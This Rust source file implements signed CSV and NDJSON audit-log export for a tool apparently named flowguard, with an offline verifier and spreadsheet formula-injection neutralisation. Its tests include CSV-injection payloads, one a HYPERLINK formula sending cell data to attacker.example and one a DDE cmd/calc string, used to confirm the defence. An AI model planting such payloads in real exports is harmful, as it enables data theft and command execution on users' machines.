//! Audit export framing (CSV, NDJSON) with a signed sentinel trailer, and the offline verifier
//! behind `flowguard audit verify-export`.
//!
//! **Rows.** Both formats carry the same 13 columns, in this order: `record_type` (`row`),
//! `seq`, `id`, `ts` (RFC 3339 UTC, 3 fractional digits, `Z`), `actor_email`, `actor_role`,
//! `client_ip`, `user_agent`, `action`, `target`, `details` (compact JSON object), `prev_hash`,
//! `hash`.
//! - NDJSON: one JSON object per LF-terminated line, control characters escaped by the JSON
//!   encoder (RFC 8259 §7); lossless (`null` stays `null`).
//! - CSV (RFC 4180): header row, CRLF record separators, fields with `,` `"` CR or LF quoted and
//!   inner quotes doubled, no BOM, `null` written as an empty cell. Profile `spreadsheet`
//!   (default): every text cell whose first character is `=`, `+`, `-`, `@`, TAB, CR or `'` is
//!   prefixed with `'` (OWASP CSV injection); numeric `seq` is never touched; strip one leading
//!   `'` to get the raw value back. Profile `machine`: raw values. The response header
//!   `X-Export-Sanitization` names the profile (`none` for NDJSON).
//!
//! **Trailer.** Exactly one final record, written only when every row was written:
//! an object `T` = `{"record_type":"trailer","format","profile","count","from","to",
//! "first_hash","last_hash","sha256","key_id","generated_at","complete":true}` where `sha256`
//! is the hex SHA-256 of every byte before the trailer, plus `"signature"`: base64 of the
//! Ed25519 signature over `"flowguard-audit-export/v1\n" ‖ compact-JSON(T)` (keys sorted, as
//! serde_json writes them). NDJSON writes `T + signature` as its last line; CSV writes a last row
//! with `record_type` = `trailer`, `seq` = the count, `details` = `T + signature` as JSON,
//! `prev_hash` = `first_hash`, `hash` = `last_hash`, other cells empty. A failure mid-stream
//! writes no trailer and aborts the connection.

use base64::Engine;
use serde::Serialize;
use serde_json::{json, Value};
use sha2::{Digest, Sha256};

use super::{record_hash, AuditRecord};
use crate::crypto::audit_signing::{self, AuditSigner};

/// Domain-separation prefix of the signed trailer message.
pub const SIGNATURE_CONTEXT: &[u8] = b"flowguard-audit-export/v1\n";

/// CSV header (the 13 columns).
pub const COLUMNS: [&str; 13] = [
    "record_type",
    "seq",
    "id",
    "ts",
    "actor_email",
    "actor_role",
    "client_ip",
    "user_agent",
    "action",
    "target",
    "details",
    "prev_hash",
    "hash",
];

/// Export format.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Format {
    /// RFC 4180 CSV.
    Csv,
    /// Newline-delimited JSON.
    Ndjson,
}

/// CSV profile.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Profile {
    /// Formula-looking text cells prefixed with `'`.
    Spreadsheet,
    /// Raw values (for SIEMs).
    Machine,
    /// NDJSON: always raw.
    None,
}

impl Profile {
    /// Header value of `X-Export-Sanitization`.
    pub fn as_str(self) -> &'static str {
        match self {
            Profile::Spreadsheet => "spreadsheet",
            Profile::Machine => "machine",
            Profile::None => "none",
        }
    }
}

/// `'`-prefix a text cell a spreadsheet would evaluate (or that starts with `'` itself, so the
/// prefix can always be stripped back).
pub fn neutralise(s: &str) -> std::borrow::Cow<'_, str> {
    match s.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\'') => format!("'{s}").into(),
        _ => s.into(),
    }
}

/// Incremental writer: feed rows, then [`ExportWriter::finish`] for the trailer. Tracks the
/// SHA-256 of every byte produced, the count and the first/last hash.
pub struct ExportWriter {
    format: Format,
    profile: Profile,
    hasher: Sha256,
    count: u64,
    first_hash: Option<String>,
    last_hash: Option<String>,
    from: Option<String>,
    to: Option<String>,
    /// Reused CSV encoder writing into `csv_buf`, drained after every row.
    csv: Option<(csv::Writer<SharedBuf>, SharedBuf)>,
}

/// A byte sink the CSV encoder writes into and the export drains.
#[derive(Clone, Default)]
struct SharedBuf(std::sync::Arc<parking_lot::Mutex<Vec<u8>>>);

impl std::io::Write for SharedBuf {
    fn write(&mut self, b: &[u8]) -> std::io::Result<usize> {
        self.0.lock().extend_from_slice(b);
        Ok(b.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

fn csv_writer() -> (csv::Writer<SharedBuf>, SharedBuf) {
    let buf = SharedBuf::default();
    let w = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .quote_style(csv::QuoteStyle::Necessary)
        .from_writer(buf.clone());
    (w, buf)
}

/// A stored row as exported: `details` is the stored compact JSON text, written through
/// unchanged (no parse and re-encode per row).
#[derive(Debug, Clone)]
pub struct ExportRow {
    /// Sequence number.
    pub seq: i64,
    /// Row id.
    pub id: String,
    /// Timestamp.
    pub ts: String,
    /// Actor email.
    pub actor_email: Option<String>,
    /// Actor role.
    pub actor_role: Option<String>,
    /// Client IP.
    pub client_ip: Option<String>,
    /// User agent.
    pub user_agent: Option<String>,
    /// Action.
    pub action: String,
    /// Target.
    pub target: Option<String>,
    /// Details as stored (compact JSON object text).
    pub details: String,
    /// Previous hash.
    pub prev_hash: String,
    /// Hash.
    pub hash: String,
}

impl From<&AuditRecord> for ExportRow {
    fn from(r: &AuditRecord) -> Self {
        Self {
            seq: r.seq,
            id: r.id.clone(),
            ts: r.ts.clone(),
            actor_email: r.actor_email.clone(),
            actor_role: r.actor_role.clone(),
            client_ip: r.client_ip.clone(),
            user_agent: r.user_agent.clone(),
            action: r.action.clone(),
            target: r.target.clone(),
            details: r.details.to_string(),
            prev_hash: r.prev_hash.clone(),
            hash: r.hash.clone(),
        }
    }
}

#[derive(Serialize)]
struct NdRow<'a> {
    record_type: &'static str,
    seq: i64,
    id: &'a str,
    ts: &'a str,
    actor_email: Option<&'a str>,
    actor_role: Option<&'a str>,
    client_ip: Option<&'a str>,
    user_agent: Option<&'a str>,
    action: &'a str,
    target: Option<&'a str>,
    details: &'a serde_json::value::RawValue,
    prev_hash: &'a str,
    hash: &'a str,
}

impl ExportWriter {
    /// A writer for `format`/`profile` over the range `[from, to)`.
    pub fn new(format: Format, profile: Profile, from: Option<String>, to: Option<String>) -> Self {
        Self {
            format,
            profile: if format == Format::Ndjson {
                Profile::None
            } else {
                profile
            },
            hasher: Sha256::new(),
            count: 0,
            first_hash: None,
            last_hash: None,
            from,
            to,
            csv: None,
        }
    }

    fn csv_line(&self, fields: &[&str]) -> std::io::Result<Vec<u8>> {
        let mut w = csv::WriterBuilder::new()
            .terminator(csv::Terminator::CRLF)
            .quote_style(csv::QuoteStyle::Necessary)
            .from_writer(Vec::new());
        w.write_record(fields).map_err(std::io::Error::other)?;
        w.into_inner()
            .map_err(|e| std::io::Error::other(e.to_string()))
    }

    /// The bytes that open the export (the CSV header; nothing for NDJSON).
    pub fn header(&mut self) -> std::io::Result<Vec<u8>> {
        let out = match self.format {
            Format::Csv => self.csv_line(&COLUMNS)?,
            Format::Ndjson => Vec::new(),
        };
        self.hasher.update(&out);
        Ok(out)
    }

    /// Encode one row (convenience over [`ExportWriter::row_into`]).
    pub fn row(&mut self, r: &AuditRecord) -> std::io::Result<Vec<u8>> {
        let mut out = Vec::new();
        self.row_into(&ExportRow::from(r), &mut out)?;
        Ok(out)
    }

    /// Append one encoded row to `out`.
    pub fn row_into(&mut self, r: &ExportRow, out: &mut Vec<u8>) -> std::io::Result<()> {
        let start = out.len();
        match self.format {
            Format::Ndjson => {
                let details: &serde_json::value::RawValue =
                    serde_json::from_str(&r.details).map_err(std::io::Error::other)?;
                let row = NdRow {
                    record_type: "row",
                    seq: r.seq,
                    id: &r.id,
                    ts: &r.ts,
                    actor_email: r.actor_email.as_deref(),
                    actor_role: r.actor_role.as_deref(),
                    client_ip: r.client_ip.as_deref(),
                    user_agent: r.user_agent.as_deref(),
                    action: &r.action,
                    target: r.target.as_deref(),
                    details,
                    prev_hash: &r.prev_hash,
                    hash: &r.hash,
                };
                serde_json::to_writer(&mut *out, &row).map_err(std::io::Error::other)?;
                out.push(b'\n');
            }
            Format::Csv => {
                let seq = r.seq.to_string();
                fn opt(o: &Option<String>) -> &str {
                    o.as_deref().unwrap_or("")
                }
                let text = [
                    r.id.as_str(),
                    r.ts.as_str(),
                    opt(&r.actor_email),
                    opt(&r.actor_role),
                    opt(&r.client_ip),
                    opt(&r.user_agent),
                    r.action.as_str(),
                    opt(&r.target),
                    r.details.as_str(),
                    r.prev_hash.as_str(),
                    r.hash.as_str(),
                ];
                let spreadsheet = self.profile == Profile::Spreadsheet;
                let cells = text.iter().map(|t| {
                    if spreadsheet {
                        neutralise(t)
                    } else {
                        std::borrow::Cow::Borrowed(*t)
                    }
                });
                let (w, buf) = self.csv.get_or_insert_with(csv_writer);
                w.write_field("row").map_err(std::io::Error::other)?;
                w.write_field(&seq).map_err(std::io::Error::other)?;
                for c in cells {
                    w.write_field(c.as_bytes()).map_err(std::io::Error::other)?;
                }
                w.write_record(None::<&[u8]>)
                    .map_err(std::io::Error::other)?;
                w.flush()?;
                out.append(&mut buf.0.lock());
            }
        }
        self.hasher.update(&out[start..]);
        self.count += 1;
        if self.first_hash.is_none() {
            self.first_hash = Some(r.hash.clone());
        }
        self.last_hash = Some(r.hash.clone());
        Ok(())
    }

    /// Rows written so far.
    pub fn count(&self) -> u64 {
        self.count
    }

    /// The signed trailer record.
    pub fn finish(self, signer: &AuditSigner) -> std::io::Result<Vec<u8>> {
        let sha = hex::encode(self.hasher.clone().finalize());
        let t = json!({
            "record_type": "trailer",
            "format": self.format,
            "profile": self.profile.as_str(),
            "count": self.count,
            "from": self.from,
            "to": self.to,
            "first_hash": self.first_hash,
            "last_hash": self.last_hash,
            "sha256": sha,
            "key_id": signer.key_id(),
            "generated_at": crate::domain::now_rfc3339(),
            "complete": true,
        });
        let mut msg = SIGNATURE_CONTEXT.to_vec();
        msg.extend_from_slice(t.to_string().as_bytes());
        let sig = base64::engine::general_purpose::STANDARD.encode(signer.sign(&msg));
        let mut signed = t;
        if let Some(o) = signed.as_object_mut() {
            o.insert("signature".into(), json!(sig));
        }
        match self.format {
            Format::Ndjson => {
                let mut b = signed.to_string().into_bytes();
                b.push(b'\n');
                Ok(b)
            }
            Format::Csv => {
                let count = self.count.to_string();
                let details = signed.to_string();
                let first = self.first_hash.clone().unwrap_or_default();
                let last = self.last_hash.clone().unwrap_or_default();
                self.csv_line(&[
                    "trailer", &count, "", "", "", "", "", "", "", "", &details, &first, &last,
                ])
            }
        }
    }
}

/// What a verified export contained.
#[derive(Debug, Clone, Serialize)]
pub struct VerifiedExport {
    /// `csv` or `ndjson`.
    pub format: String,
    /// Data rows.
    pub count: u64,
    /// Range as exported.
    pub from: Option<String>,
    /// Range as exported.
    pub to: Option<String>,
    /// Hash of the first row.
    pub first_hash: Option<String>,
    /// Hash of the last row.
    pub last_hash: Option<String>,
    /// Signing key id.
    pub key_id: String,
}

struct DataRow {
    line: usize,
    prev_hash: String,
    hash: String,
    record: Option<AuditRecord>,
}

fn ndjson_record(v: &Value) -> Option<AuditRecord> {
    let s = |k: &str| v.get(k).and_then(Value::as_str).map(str::to_string);
    Some(AuditRecord {
        seq: v.get("seq")?.as_i64()?,
        id: s("id")?,
        ts: s("ts")?,
        actor_email: s("actor_email"),
        actor_role: s("actor_role"),
        client_ip: s("client_ip"),
        user_agent: s("user_agent"),
        action: s("action")?,
        target: s("target"),
        details: v.get("details")?.clone(),
        prev_hash: s("prev_hash")?,
        hash: s("hash")?,
    })
}

/// Split an export into its data rows, the trailer object and the bytes before the trailer.
fn parse(bytes: &[u8]) -> Result<(String, Vec<DataRow>, Value, usize), String> {
    if bytes.is_empty() {
        return Err("empty file: the export is truncated (no trailer)".into());
    }
    if bytes.starts_with(&[0xEF, 0xBB, 0xBF]) {
        return Err("file starts with a byte-order mark: not as exported".into());
    }
    if bytes[0] == b'{' {
        if !bytes.ends_with(b"\n") {
            return Err("the last line is incomplete: the export is truncated".into());
        }
        let text = std::str::from_utf8(bytes).map_err(|_| "file is not UTF-8".to_string())?;
        let mut rows = Vec::new();
        let mut offset = 0usize;
        let mut trailer: Option<(Value, usize)> = None;
        for (i, line) in text.split_inclusive('\n').enumerate() {
            let start = offset;
            offset += line.len();
            if trailer.is_some() {
                return Err(format!("line {}: data after the trailer", i + 1));
            }
            let v: Value = serde_json::from_str(line.trim_end_matches('\n'))
                .map_err(|_| format!("line {}: not a JSON object", i + 1))?;
            match v.get("record_type").and_then(Value::as_str) {
                Some("row") => {
                    let rec = ndjson_record(&v)
                        .ok_or_else(|| format!("line {}: row lacks a field", i + 1))?;
                    rows.push(DataRow {
                        line: i + 1,
                        prev_hash: rec.prev_hash.clone(),
                        hash: rec.hash.clone(),
                        record: Some(rec),
                    });
                }
                Some("trailer") => trailer = Some((v, start)),
                _ => return Err(format!("line {}: unknown record_type", i + 1)),
            }
        }
        let (t, at) =
            trailer.ok_or_else(|| "no trailer line: the export is truncated".to_string())?;
        return Ok(("ndjson".into(), rows, t, at));
    }
    if !bytes.ends_with(b"\r\n") {
        return Err("the last record is incomplete: the export is truncated".into());
    }
    let mut rdr = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(false)
        .from_reader(bytes);
    let mut rows = Vec::new();
    let mut trailer: Option<(Value, usize)> = None;
    let mut rec = csv::StringRecord::new();
    let mut first = true;
    loop {
        // The reader may stop between a record's CR and LF: a record starts after them.
        let mut pos = rdr.position().byte() as usize;
        while matches!(bytes.get(pos), Some(b'\r' | b'\n')) {
            pos += 1;
        }
        let line = rdr.position().line() as usize;
        match rdr.read_record(&mut rec) {
            Ok(false) => break,
            Ok(true) => {}
            Err(e) => return Err(format!("CSV record at line {line}: {e}")),
        }
        if first {
            first = false;
            if rec.iter().collect::<Vec<_>>() != COLUMNS {
                return Err("the CSV header is not the export header".into());
            }
            continue;
        }
        if trailer.is_some() {
            return Err(format!("record at line {line}: data after the trailer"));
        }
        if rec.len() != COLUMNS.len() {
            return Err(format!("record at line {line}: wrong number of fields"));
        }
        match &rec[0] {
            "row" => rows.push(DataRow {
                line,
                prev_hash: rec[11].to_string(),
                hash: rec[12].to_string(),
                record: None,
            }),
            "trailer" => {
                let v: Value = serde_json::from_str(&rec[10])
                    .map_err(|_| format!("trailer at line {line}: details are not JSON"))?;
                trailer = Some((v, pos));
            }
            _ => return Err(format!("record at line {line}: unknown record_type")),
        }
    }
    let (t, at) =
        trailer.ok_or_else(|| "no trailer record: the export is truncated".to_string())?;
    Ok(("csv".into(), rows, t, at))
}

/// Verify an export file against the audit-signing public key (raw 32 bytes). The error names
/// the first reason found: truncation, a removed, reordered or edited row, a changed trailer,
/// or a bad signature.
pub fn verify_export(bytes: &[u8], public_key: &[u8]) -> Result<VerifiedExport, String> {
    let (format, rows, trailer, at) = parse(bytes)?;
    let str_of = |k: &str| trailer.get(k).and_then(Value::as_str).map(str::to_string);
    if trailer.get("complete") != Some(&Value::Bool(true)) {
        return Err("trailer does not say complete".into());
    }
    // The trailer itself first: any change to it breaks the signature.
    let sig = str_of("signature")
        .and_then(|s| base64::engine::general_purpose::STANDARD.decode(s).ok())
        .ok_or_else(|| "the trailer has no signature".to_string())?;
    let mut unsigned = trailer.clone();
    if let Some(o) = unsigned.as_object_mut() {
        o.remove("signature");
    }
    let mut msg = SIGNATURE_CONTEXT.to_vec();
    msg.extend_from_slice(unsigned.to_string().as_bytes());
    if !audit_signing::verify(public_key, &msg, &sig) {
        return Err("the trailer signature does not verify with this public key".into());
    }
    // Linkage and content, row by row, to name the first bad row.
    let mut prev: Option<&DataRow> = None;
    for r in &rows {
        if let Some(p) = prev {
            if r.prev_hash != p.hash {
                return Err(format!(
                    "line {}: prev_hash does not match the previous row's hash: a row was removed, inserted or reordered",
                    r.line
                ));
            }
        }
        if let Some(rec) = &r.record {
            if record_hash(rec) != rec.hash {
                return Err(format!(
                    "line {}: the row does not match its hash: the row was edited",
                    r.line
                ));
            }
        }
        prev = Some(r);
    }
    let count = trailer.get("count").and_then(Value::as_u64);
    if count != Some(rows.len() as u64) {
        return Err(format!(
            "the trailer counts {} rows but the file has {}: rows were removed or added",
            count.map(|c| c.to_string()).unwrap_or_else(|| "no".into()),
            rows.len()
        ));
    }
    if str_of("first_hash") != rows.first().map(|r| r.hash.clone())
        || str_of("last_hash") != rows.last().map(|r| r.hash.clone())
    {
        return Err("the first or last row is not the one the trailer names: rows were removed or reordered".into());
    }
    let sha = hex::encode(Sha256::digest(&bytes[..at]));
    if str_of("sha256").as_deref() != Some(sha.as_str()) {
        return Err("the content does not match the trailer's SHA-256: the file was edited".into());
    }
    Ok(VerifiedExport {
        format,
        count: rows.len() as u64,
        from: str_of("from"),
        to: str_of("to"),
        first_hash: str_of("first_hash"),
        last_hash: str_of("last_hash"),
        key_id: str_of("key_id").unwrap_or_default(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::crypto::MasterKey;

    fn rec(seq: i64, prev: &str, ts: &str, actor: &str, ua: &str, details: Value) -> AuditRecord {
        let mut r = AuditRecord {
            seq,
            id: format!("00000000-0000-4000-8000-{seq:012}"),
            ts: ts.into(),
            actor_email: Some(actor.into()),
            actor_role: None,
            client_ip: Some("192.0.2.1".into()),
            user_agent: Some(ua.into()),
            action: "login.failure".into(),
            target: None,
            details,
            prev_hash: prev.into(),
            hash: String::new(),
        };
        r.hash = record_hash(&r);
        r
    }

    /// C11's three events (DST switch, LF/quotes, TAB/CRLF/U+2028/astral) and C10's payloads.
    fn events() -> Vec<AuditRecord> {
        let e1 = rec(
            1,
            crate::audit::GENESIS_HASH,
            "2024-03-31T00:59:59.999Z",
            "=HYPERLINK(\"https://attacker.example/?d=\"&A2,\"open\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            json!({"detail": "line1\nline2, with \"quotes\""}),
        );
        let e2 = rec(
            2,
            &e1.hash,
            "2024-03-31T01:00:00.000Z",
            "\t=1+1",
            "\r=1+1",
            json!({"detail": "a\tb\r\nc\u{2028}d\u{1F600}"}),
        );
        let e3 = rec(
            3,
            &e2.hash,
            "2024-03-31T01:30:00.000Z",
            "-2+3",
            "ua",
            json!({}),
        );
        vec![e1, e2, e3]
    }

    fn signer() -> (tempfile::TempDir, AuditSigner) {
        let d = tempfile::tempdir().unwrap();
        let mk = MasterKey::from_bytes(zeroize::Zeroizing::new([3u8; 32]), d.path().join("m"));
        let s = AuditSigner::load_or_create(d.path(), &mk, true).unwrap();
        (d, s)
    }

    fn write(format: Format, profile: Profile, s: &AuditSigner) -> Vec<u8> {
        let mut w = ExportWriter::new(
            format,
            profile,
            Some("2024-03-31T00:00:00.000Z".into()),
            None,
        );
        let mut out = w.header().unwrap();
        for r in events() {
            out.extend(w.row(&r).unwrap());
        }
        out.extend(w.finish(s).unwrap());
        out
    }

    #[test]
    fn csv_framing_and_neutralisation() {
        let (_d, s) = signer();
        for (profile, sanitised) in [(Profile::Spreadsheet, true), (Profile::Machine, false)] {
            let b = write(Format::Csv, profile, &s);
            assert!(!b.starts_with(&[0xEF, 0xBB, 0xBF]));
            assert!(b.ends_with(b"\r\n"));
            let text = String::from_utf8(b.clone()).unwrap();
            assert!(text.starts_with("record_type,seq,id,ts,"));
            if sanitised {
                assert!(text.contains(
                    "\"'=HYPERLINK(\"\"https://attacker.example/?d=\"\"&A2,\"\"open\"\")\""
                ));
            }
            let mut rdr = csv::Reader::from_reader(&b[..]);
            let recs: Vec<csv::StringRecord> = rdr.records().map(|r| r.unwrap()).collect();
            assert_eq!(recs.len(), 4);
            for (r, e) in recs.iter().zip(events()) {
                assert_eq!(r.len(), 13);
                assert_eq!(&r[1], e.seq.to_string());
                let raw = |v: &str| {
                    if sanitised {
                        neutralise(v).into_owned()
                    } else {
                        v.to_string()
                    }
                };
                assert_eq!(&r[3], e.ts);
                assert_eq!(&r[4], raw(e.actor_email.as_deref().unwrap()));
                assert_eq!(&r[7], raw(e.user_agent.as_deref().unwrap()));
                let details: Value = serde_json::from_str(&r[10]).unwrap();
                assert_eq!(details, e.details, "details kept verbatim as a JSON cell");
            }
            assert_eq!(&recs[3][0], "trailer");
            assert_eq!(&recs[3][1], "3");
            verify_export(&b, s.public_key()).unwrap();
        }
    }

    #[test]
    fn ndjson_lossless_with_trailer() {
        let (_d, s) = signer();
        let b = write(Format::Ndjson, Profile::Spreadsheet, &s);
        let text = std::str::from_utf8(&b).unwrap();
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), 4);
        for (l, e) in lines.iter().zip(events()) {
            // Control characters are escaped by the JSON encoder: one record per physical line.
            assert!(!l.contains('\r') && !l.contains('\t'), "{l}");
            let v: Value = serde_json::from_str(l).unwrap();
            let back = ndjson_record(&v).unwrap();
            assert_eq!(
                back.actor_email, e.actor_email,
                "NDJSON is never neutralised"
            );
            assert_eq!(back.details, e.details);
            assert_eq!(record_hash(&back), e.hash);
        }
        let t: Value = serde_json::from_str(lines[3]).unwrap();
        assert_eq!(t["record_type"], "trailer");
        assert_eq!(t["count"], 3);
        assert_eq!(t["complete"], true);
        let at = text.len() - lines[3].len() - 1;
        assert_eq!(t["sha256"], hex::encode(Sha256::digest(&b[..at])));
        verify_export(&b, s.public_key()).unwrap();
        // A key that did not sign it.
        let (_d2, other) = signer2();
        assert!(verify_export(&b, other.public_key())
            .unwrap_err()
            .contains("signature"));
    }

    fn signer2() -> (tempfile::TempDir, AuditSigner) {
        let d = tempfile::tempdir().unwrap();
        let mk = MasterKey::from_bytes(zeroize::Zeroizing::new([4u8; 32]), d.path().join("m"));
        let s = AuditSigner::load_or_create(d.path(), &mk, true).unwrap();
        (d, s)
    }
}
